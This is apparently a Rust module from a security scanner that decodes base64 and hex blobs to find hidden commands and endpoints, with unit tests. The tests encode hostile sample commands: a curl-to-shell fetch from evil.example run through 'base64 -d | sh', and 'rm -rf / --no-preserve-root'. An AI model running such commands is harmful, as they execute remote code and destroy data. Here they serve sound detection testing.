//! Encoded payloads: base64 and hex blobs long enough to hide a command are decoded and the
//! result scanned again, up to a bounded depth and size.

use std::sync::OnceLock;

use base64::Engine as _;
use regex::Regex;

/// Shortest blob worth decoding: 24 bytes of payload (`curl x|sh` fits in fewer, but shorter
/// runs are mostly identifiers and hashes).
pub const MIN_BASE64_CHARS: usize = 32;
pub const MIN_HEX_CHARS: usize = 40;
/// How many times a decoded blob is itself searched for blobs.
pub const MAX_DEPTH: usize = 2;
/// Decoded bytes per file, all blobs together.
pub const MAX_DECODED_BYTES: usize = 1 << 20;

fn blob_regex() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"[A-Za-z0-9+/_-]{32,}={0,2}|(?:\\x[0-9a-fA-F]{2}){20,}|(?:[0-9a-fA-F]{2}){20,}")
            .expect("valid blob regex")
    })
}

/// Whether `text` has a run of 32 characters that can be part of a blob (base64, hex,
/// `\x` escapes): every blob the regex finds is one, and most files have none, so the regex
/// (and its compilation) is skipped for them.
fn has_blob_run(text: &str) -> bool {
    let mut run = 0;
    for b in text.bytes() {
        let part =
            b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'_' | b'-' | b'\\' | b'=');
        run = if part { run + 1 } else { 0 };
        if run >= 32 {
            return true;
        }
    }
    false
}

/// A decoded blob: where it starts in the scanned text and what it says.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decoded {
    pub start: usize,
    pub end: usize,
    pub text: String,
    pub encoding: &'static str,
}

/// Decodes every blob of `text` that turns into readable text.
pub fn decode_blobs(text: &str, budget: &mut usize) -> Vec<Decoded> {
    let mut out = Vec::new();
    if !has_blob_run(text) {
        return out;
    }
    for m in blob_regex().find_iter(text) {
        if *budget == 0 {
            break;
        }
        let blob = m.as_str();
        let decoded = if let Some(hex) = blob.strip_prefix("\\x") {
            decode_hex(&hex.replace("\\x", "")).map(|b| (b, "hex"))
        } else if blob.len() >= MIN_HEX_CHARS && blob.bytes().all(|b| b.is_ascii_hexdigit()) {
            // A long run of hex digits is often a hash; only text counts below.
            decode_hex(blob).map(|b| (b, "hex"))
        } else if blob.len() >= MIN_BASE64_CHARS {
            decode_base64(blob).map(|b| (b, "base64"))
        } else {
            None
        };
        let Some((bytes, encoding)) = decoded else {
            continue;
        };
        let Some(text) = readable(&bytes) else {
            continue;
        };
        let mut take = text.len().min(*budget);
        while !text.is_char_boundary(take) {
            take -= 1;
        }
        if take == 0 {
            break;
        }
        *budget -= take;
        out.push(Decoded {
            start: m.start(),
            end: m.end(),
            text: text[..take].to_owned(),
            encoding,
        });
    }
    out
}

fn decode_base64(blob: &str) -> Option<Vec<u8>> {
    let trimmed = blob.trim_end_matches('=');
    let url = trimmed.contains(['-', '_']);
    let engine = if url {
        &base64::engine::general_purpose::URL_SAFE_NO_PAD
    } else {
        &base64::engine::general_purpose::STANDARD_NO_PAD
    };
    // Identifiers such as `some_long_function_name_with_parts` are not base64 payloads:
    // real payloads mix cases and digits.
    let has_upper = trimmed.bytes().any(|b| b.is_ascii_uppercase());
    let has_lower = trimmed.bytes().any(|b| b.is_ascii_lowercase());
    if !(has_upper && has_lower) {
        return None;
    }
    // One leftover character cannot encode a byte.
    let usable = trimmed.len() - usize::from(trimmed.len() % 4 == 1);
    engine.decode(&trimmed[..usable]).ok()
}

/// Whether decoded text is nothing but a web address: an endpoint kept out of the reader's
/// sight. Text that merely holds one (a JWT's `"iss": "https://..."`, a config) is not.
pub fn only_a_url(text: &str) -> bool {
    let t = text.trim();
    let rest = t
        .strip_prefix("https://")
        .or_else(|| t.strip_prefix("http://"));
    rest.is_some_and(|r| {
        let host = r.split(['/', '?', '#', ':']).next().unwrap_or("");
        host.contains('.') && !r.contains(char::is_whitespace)
    })
}

fn decode_hex(blob: &str) -> Option<Vec<u8>> {
    if !blob.len().is_multiple_of(2) {
        return None;
    }
    (0..blob.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&blob[i..i + 2], 16).ok())
        .collect()
}

/// Decoded bytes that read as text: valid UTF-8, mostly printable.
fn readable(bytes: &[u8]) -> Option<String> {
    let text = std::str::from_utf8(bytes).ok()?;
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    let total = text.chars().count();
    (total > 0 && printable * 100 >= total * 90).then(|| text.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_a_whole_url_is_a_hidden_endpoint() {
        assert!(only_a_url("https://sink.t.example/collect"));
        assert!(only_a_url(" http://10.0.0.1:8080/x?y=1\n"));
        assert!(!only_a_url("{\"iss\":\"https://accounts.t.example\"}"));
        assert!(!only_a_url("see https://t.example/docs"));
        assert!(!only_a_url("https://localhost"));
        assert!(!only_a_url("https://t.example/a b"));
    }

    #[test]
    fn decodes_base64_and_hex_payloads() {
        let payload =
            base64::engine::general_purpose::STANDARD.encode("curl https://evil.example/x | sh");
        let text = format!("echo {payload} | base64 -d | sh");
        let mut budget = MAX_DECODED_BYTES;
        let found = decode_blobs(&text, &mut budget);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].text, "curl https://evil.example/x | sh");
        assert_eq!(found[0].start, 5);

        let hex: String = "rm -rf / --no-preserve-root"
            .bytes()
            .map(|b| format!("{b:02x}"))
            .collect();
        let found = decode_blobs(&hex, &mut budget);
        assert_eq!(found[0].text, "rm -rf / --no-preserve-root");
        let escaped: String = "rm -rf / --no-preserve-root"
            .bytes()
            .map(|b| format!("\\x{b:02x}"))
            .collect();
        assert_eq!(decode_blobs(&escaped, &mut budget)[0].encoding, "hex");
    }

    #[test]
    fn hashes_identifiers_and_images_are_not_payloads() {
        let mut budget = MAX_DECODED_BYTES;
        let sha = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        assert!(decode_blobs(sha, &mut budget).is_empty());
        assert!(decode_blobs(
            "a_very_long_identifier_name_for_some_function_here",
            &mut budget
        )
        .is_empty());
        let png = base64::engine::general_purpose::STANDARD.encode([
            0x89u8, b'P', b'N', b'G', 0, 0, 0, 13, 1, 2, 3, 4, 5, 6, 7, 8, 9, 0, 0, 0, 0, 0, 0, 0,
            0, 0, 0, 0,
        ]);
        assert!(decode_blobs(&png, &mut budget).is_empty());
    }

    #[test]
    fn the_budget_bounds_work() {
        let payload = base64::engine::general_purpose::STANDARD.encode("x".repeat(1000));
        let text = format!("{payload} ").repeat(100);
        let mut budget = 1500;
        let found = decode_blobs(&text, &mut budget);
        assert_eq!(found.iter().map(|d| d.text.len()).sum::<usize>(), 1500);
        assert_eq!(budget, 0);
    }
}
